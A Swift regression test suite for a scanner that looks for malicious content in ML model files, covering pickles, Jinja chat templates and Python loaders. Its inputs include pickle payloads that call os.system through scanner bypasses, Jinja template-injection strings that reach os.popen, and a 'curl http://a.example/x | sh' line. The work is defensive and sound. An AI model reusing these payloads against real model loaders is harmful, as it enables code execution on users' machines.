import CordonCore
import CordonScan
import CordonTestSupport
import Testing

/// Ways past the scanner that were found once; each stays closed.
@Suite("Bypasses that were found and closed")
struct RegressionTests {
    private static let start = PickleAssembler().proto()

    /// An array wrapper whose bytes only joblib skips.
    private static func wrapper(_ keys: PickleAssembler, bytes: [UInt8]) -> [UInt8] {
        start.stackGlobal("joblib.numpy_pickle", "NumpyArrayWrapper").op(")").raw([0x81]).op("}(").raw(keys.bytes)
            .string("dtype").stackGlobal("numpy", "dtype").string("u1").call.op("ub").raw(bytes).stop.bytes
    }

    private static let payload = PickleAssembler().op("0").stackGlobal("os", "system").string("id").call.bytes

    @Test(
        "Pickles",
        arguments: [
            // A partial whose state is set twice: the last one counts.
            start.stackGlobal("functools", "partial").stackGlobal("functools", "partial").call
                .stackGlobal("functools", "partial").op(")}N").raw([0x87]).op("b").stackGlobal("builtins", "getattr")
                .stackGlobal("copyreg", "_reconstructor").string("__builtins__").raw([0x86]).op("}N").raw([0x87]).op(
                    "b)R."
                ).bytes,
            wrapper(PickleAssembler().string("shape").integer(payload.count).raw([0x85]), bytes: payload),
            wrapper(
                PickleAssembler().string("shape").integer(payload.count).raw([0x85]).string("shape").integer(0).raw([
                    0x85
                ]),
                bytes: payload),
            start.stackGlobal("torch.storage", "_load_from_bytes")
                .byteString(Array("L119547037146038801333356L\n.I1001\n.(dp0\n.cos\nsystem\n(S'id'\ntR.".utf8)).call
                .stop.bytes,
            start.stackGlobal("torch.storage", "_load_from_bytes").stackGlobal("_codecs", "encode")
                .string("\u{80}\u{4}cos\nsystem\n(S'id'\ntR.").string("latin1").raw([0x86]).op("R").call.stop.bytes,
            start.stackGlobal("torch._tensor", "_rebuild_from_type_v2").stackGlobal("os", "system").op("N").string("id")
                .raw([0x85]).op("N(").raw([0x31]).op("t").bytes + Array("R.".utf8),
            PickleAssembler().string("os").op("p 1\n0g 1\n").string("system").raw([0x93]).string("id").call.stop.bytes,
            PickleAssembler().string("os").op("p0000000000000000000000001\n0g1\n").string("system").raw([0x93]).string(
                "id"
            ).call.stop.bytes,
            Array("GIF8aaaaa0".utf8) + PickleAssembler().stackGlobal("posix", "system").string("id").call.stop.bytes,
            start.stackGlobal("builtins", "list").stackGlobal("itertools", "count").op(")R").call.stop.bytes,
            start.stackGlobal("numpy", "ndarray").integer(2_000_000_000).integer(2_000_000_000).raw([0x86]).call.stop
                .bytes,
            start.stackGlobal("scipy.io._fortran", "FortranFile").string("x").string("w").raw([0x86]).op("R.").bytes,
        ])
    func pickles(_ bytes: [UInt8]) {
        let findings = Scanner().scan(bytes: bytes, name: "model.pkl").findings
        #expect(findings.contains { $0.severity >= .high }, "\(findings.map(\.message))")
    }

    @Test("Argument lists beyond the kept ones are not trusted")
    func manyArguments() {
        var pickle = Self.start
        for index in 0..<100 {
            pickle = pickle.stackGlobal("dill._dill", "_load_type").string("list\(index)").call.op("0")
        }
        pickle = pickle.stackGlobal("dill._dill", "_load_type").string("CodeType").call
        #expect(rules(in: pickle.stop.bytes).contains("CORDON-PKL-015"))
    }

    @Test("A storage that is a NumPy file or a pickle is not taken for numbers")
    func storages() {
        let member = ZipBuilder.Member("m/data/0", Array("cos\nsystem\n(S'id'\ntR.".utf8))
        let bytes = ZipBuilder([.init("m/data.pkl", Self.start.op("}.").bytes), member]).bytes
        #expect(rules(in: bytes).contains("CORDON-PKL-001"))
    }

    @Test(
        "Templates",
        arguments: [
            "{{ cycler.__init__.__globals__.os.popen('true').read() }}",
            "{% set c %}__init__{% endset %}{{ x[c] }}", "{% for c in ['__init__'] %}{{ cycler[c] }}{% endfor %}",
            "{% with c='__init__' %}{{ cycler[c] }}{% endwith %}",
            "{% macro m(c='__init__') %}{{ cycler[c] }}{% endmacro %}",
            "{% for a,b in [cycler]|groupby('__init__.__globals__') %}{{ a }}{% endfor %}",
            "{% if true %}{% endif %}{{ cycler[c][g](x) }}", "{% filter attr('__class__') %}x{% endfilter %}",
            "{% raw %}{%\tendraw %}{{ namespace.__init__ }}{% raw %}{% endraw %}",
            "{% set a,b='__cla','ss__' %}{{ x[a~b] }}",
            "{%- set a = '__cla' -%}{%+ set b = 'ss__' +%}{{- x[a~b] -}}",
            "{% if x['a__class__a'[1:-1]] %}{% endif %}",
        ])
    func templates(_ text: String) {
        let findings = Scanner().scan(bytes: Array(text.utf8), name: "chat_template.jinja").findings
        #expect(findings.contains { $0.severity >= .medium }, "\(findings.map(\.message))")
    }

    @Test("Folding is bounded: a template that repeats it is read whole")
    func folding() {
        // Without a bound it takes minutes; slow machines need more than the two seconds that a file has.
        var options = ScanOptions()
        options.limits.time = .seconds(30)
        let fold = "{{ a[60000] }}{{ a|list|join('') }}"
        let text =
            "{% set a = '" + String(repeating: "x", count: 65_000) + "' %}" + String(repeating: fold, count: 20_000)
        let report = Scanner(options: options).scan(bytes: Array((text + "{{ x.__class__ }}").utf8), name: "t.jinja")
        #expect(report.findings.map(\.ruleID) == ["CORDON-JNJ-001"])
    }

    @Test(
        "Empty and dotted targets are values like any other",
        arguments: [
            "_target_:", "_target_: .", "type: .", "module: ..", "target: ':'", "loader_module: .", "loader_module:",
        ])
    func emptyTargets(_ text: String) {
        #expect(outcome(of: Array("a: b\n\(text)\n".utf8)) != nil)
        #expect(outcome(of: Array(#"{"_target_": "", "type": ".", "module": ":"}"#.utf8)) != nil)
    }

    @Test(
        "Ordinary files that were once taken for something else",
        arguments: [
            ("results.csv", "const_p1,const_p2\n0.5,0.6\n1.0,2.0\n"), ("lib.so.320.0.0", "\u{7F}ELF"),
            ("a.py", "import os\nx = '{% if %}{{ a.__class__ }}'\n"),
            ("api.json", #"{"type": "http.Agent | boolean"}"#), ("jquery.js", "var a = {op: \"x\"}; node.b"),
        ])
    func ordinary(_ name: String, _ text: String) {
        let findings = Scanner().scan(bytes: Array(text.utf8), name: name).findings
        #expect(!findings.contains { $0.severity >= .medium }, "\(findings.map(\.message))")
    }

    @Test(
        "Pages of web applications may ask for the request, not for Python",
        arguments: [
            ("{% if x in request.path %}a{% endif %}", "page.html", false),
            ("{% if x %}{{ m.__repr__() }}{% endif %}", "view.html.j2", false),
            ("{% if x %}{{ request.application.__globals__ }}{% endif %}", "page.html", true),
            ("{% if x %}{{ ''.__class__.__mro__ }}{% endif %}", "view.html.j2", true),
            ("{% if x in request.path %}a{% endif %}", "chat_template.jinja", true),
            ("{% if x %}{{ m.__repr__() }}{% endif %}", "prompt.j2", true),
            ("{% if x not in ['__init__', '__call__'] %}{{ x }}{% endif %}", "class.rst", false),
            ("{% set a = '__globals__' %}{{ x[a] }}", "class.rst", true),
            ("name: a\nrun: ${{ matrix.os }} __x__\n", "windows.yml", false),
            ("{% if x.__class__.__name__ == 'list' %}a{% endif %}", "page.html", false),
            ("{% if x.__class__.__base__ %}a{% endif %}", "page.html", true),
            ("{% if x.__class__.__name__ == 'list' %}a{% endif %}", "chat_template.jinja", true),
            ("{% import_yaml 'a.yaml' as m %}{% if grains.os %}a{% endif %}", "map.jinja", false),
            ("{% import_yaml 'a.yaml' as m %}{{ ''.__class__.__mro__ }}", "map.jinja", true),
            ("{%- import_yaml 'a.yaml' as m -%}{%- if grains.os -%}a{% endif %}", "map.jinja", false),
            ("{%- raw -%}{{ x.__class__.__mro__ }}{%- endraw -%}{% if a %}{% endif %}", "t.jinja", false),
            ("name: a\nrun: ${{ ''.__class__.__mro__ }}\n", "windows.yml", true),
            ("{% if x %}{{ self.title }}{% endif %}", "page.html", false),
            ("{% if x %}{{ self._TemplateReference__context }}{% endif %}", "page.html", true),
            ("{% if x %}{{ self.title }}{% endif %}", "chat_template.jinja", true),
            ("{% if x %}{{ a.__data__ }}{% endif %}", "page.html", false),
            ("{% if x %}{{ x.__add__.__self__ }}{% endif %}", "page.html", true),
        ])
    func pages(_ text: String, _ name: String, _ isFound: Bool) {
        let found = Scanner().scan(bytes: Array(text.utf8), name: name).findings
        #expect(found.contains { $0.ruleID == "CORDON-JNJ-001" } == isFound, "\(found)")
    }

    @Test(
        "Code is found behind a byte order mark, under other names, and behind names that grow",
        arguments: [
            "\u{FEFF}import os\nos.system('curl http://a.example/x | sh')",
            "import os as o\no.system('curl http://a.example/x | sh')",
            "import six\nm = six.moves\nm.cPickle.load(f)", "import torch\np = torch.package\np.PackageImporter(f)",
            "import torch\na = torch.load\n"
                + String(repeating: "a = a.\(String(repeating: "x", count: 196))\n", count: 20_000)
                + "torch.load(f)",
            "from \(String(repeating: "x", count: 1 << 20)) import "
                + (0..<20_000).map { "a\($0)" }.joined(separator: ", ") + "\nimport torch\ntorch.load(f)",
        ])
    func otherNames(_ source: String) {
        let found = Scanner().scan(bytes: Array(source.utf8), name: "load.py").findings
        #expect(found.contains { $0.severity > .low }, "\(found)")
    }

    @Test(
        "What is fetched and unpacked by a known program does not run, what else is started with it does",
        arguments: [
            ("subprocess.check_call(['gunzip', '-k', name])", false), ("subprocess.check_call(['bash', name])", true),
            ("subprocess.check_call([name])", true), ("subprocess.run(['ls'], env={'A': name})", false),
            ("subprocess.run(['cat'], input=name)", true), ("subprocess.run(cmd, env=name)", false),
        ])
    func unpacked(_ call: String, _ isFound: Bool) {
        let source = "import subprocess, urllib.request\nname = urllib.request.urlopen(url).read()\n\(call)\n"
        let found = Scanner().scan(bytes: Array(source.utf8), name: "get.py").findings
        #expect(found.contains { $0.ruleID == "CORDON-PYS-001" } == isFound, "\(found)")
    }

    @Test(
        "What one attribute was made from says nothing of another, but all of its own parts",
        arguments: [
            ("import pickle\n        pickle.loads(pickle.dumps(fetched))", false),
            ("import pickle\n        pickle.loads(fetched)", true), ("n = len(fetched)\n        exec(a[n])", false),
            ("n = str(fetched)\n        exec(n)", true),
            ("self.a = fetched\n        exec(self.b)", false), ("self.a = fetched\n        exec(self.a)", true),
            ("self.a = fetched\n        exec(self.a.text)", true),
            ("self.a['x'] = fetched\n        exec(self.a)", true),
            ("d['x'] = fetched\n        exec(d)", true), ("d[k] = fetched\n        exec(k)", false),
            ("self.a = fetched\n        self.a = ''\n        exec(self.a)", false),
        ])
    func attributes(_ body: String, _ isFound: Bool) {
        let source =
            "import requests\nclass A:\n    def f(self, d, k):\n        fetched = requests.get(u).text\n        \(body)\n"
        let found = Scanner().scan(bytes: Array(source.utf8), name: "get.py").findings
        #expect(found.contains { $0.ruleID == "CORDON-PYS-001" } == isFound, "\(found)")
    }

    @Test("Folders above what is scanned do not make it a test")
    func aboveTheRoot() async throws {
        let folder = TemporaryFolder()
        let address = "postgres://a:" + "k7Qz2mXc9L" + "@db.corp/x"
        for name in ["a/tests", "a/src"] { folder.write(Array("key = '\(address)'\n".utf8), to: "tests/\(name)/x.py") }
        func severities(_ paths: [String]) async throws -> Set<String> {
            let found = try await Scanner().scan(paths.map { "\(folder.path)/\($0)" }).findings
            return Set(
                found.filter { $0.ruleID.hasPrefix("CORDON-SEC") }.map {
                    "\($0.path.display.hasSuffix("src/x.py")) \($0.severity)"
                })
        }
        let both = try await severities(["tests/a"])
        #expect(both.count == 2, "\(both)")
        let apart = try await severities(["tests/a/src", "tests/a/tests"])
        #expect(Set(apart.map { $0.split(separator: " ").last }).count == 1, "\(apart)")
        #expect(try await severities(["tests/a/src/x.py"]) == both.filter { $0.hasPrefix("true") })
    }

    @Test("Lists of what examples use name modules, not what is called")
    func examples() {
        let text = #"{"Activation": [{"is_class": false, "module": "tensorflow.keras.layers", "name": "Activation"}]}"#
        #expect(Scanner().scan(bytes: Array(text.utf8), name: "a.codeobj.json").findings.isEmpty)
        let hostile = text.split(separator: "tensorflow.keras.layers").joined(separator: "os.system")
        #expect(!Scanner().scan(bytes: Array(hostile.utf8), name: "a.codeobj.json").findings.isEmpty)
    }

    @Test("Nodes of syntax trees are data, what runs them is not")
    func trees() {
        let node = PickleAssembler().proto().stackGlobal("ast", "Load").op(")R.").bytes
        #expect(Scanner().scan(bytes: node, name: "a.pickle").findings.isEmpty)
        let parse = PickleAssembler().proto().stackGlobal("ast", "parse").op(")R.").bytes
        #expect(!Scanner().scan(bytes: parse, name: "a.pickle").findings.isEmpty)
    }
}
